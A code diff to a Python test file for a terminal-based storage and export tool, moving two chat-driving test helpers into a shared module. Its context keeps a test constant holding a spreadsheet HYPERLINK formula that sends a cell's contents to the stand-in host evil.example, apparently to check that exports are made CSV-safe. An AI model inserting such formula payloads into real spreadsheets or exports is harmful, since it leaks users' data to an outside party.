@@ -25,6 +25,7 @@ from storage.base import CaseKey, ReadState
 from storage.errors import NotEnoughDisk
 from storage.export import export_parts, restore_original
 from storage.export_text import ExportText, csv_safe
+from tests.terminal_chat import press, say
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")'
 
@@ -34,20 +35,6 @@ def term(content, storage, tmp_path):
     services = Services(Settings(quota_bytes=50 * 1024 * 1024), content, Engine(content), storage)
     t = Terminal(services, io.StringIO(), tmp_path / "out")
     return t
-
-
-async def say(term: Terminal, line: str) -> str:
-    start = term.out.tell()
-    event = await term.event_for(line)
-    if event:
-        await term.handle(event)
-    term.out.seek(start)
-    return term.out.read()
-
-
-async def press(term: Terminal, label: str) -> str:
-    n = next(i for i, b in enumerate(term.buttons, 1) if label in b.label)
-    return await say(term, str(n))
 
 
 async def upload(term: Terminal, tmp_path: Path, name: str, data: bytes, caption: str = "") -> str:
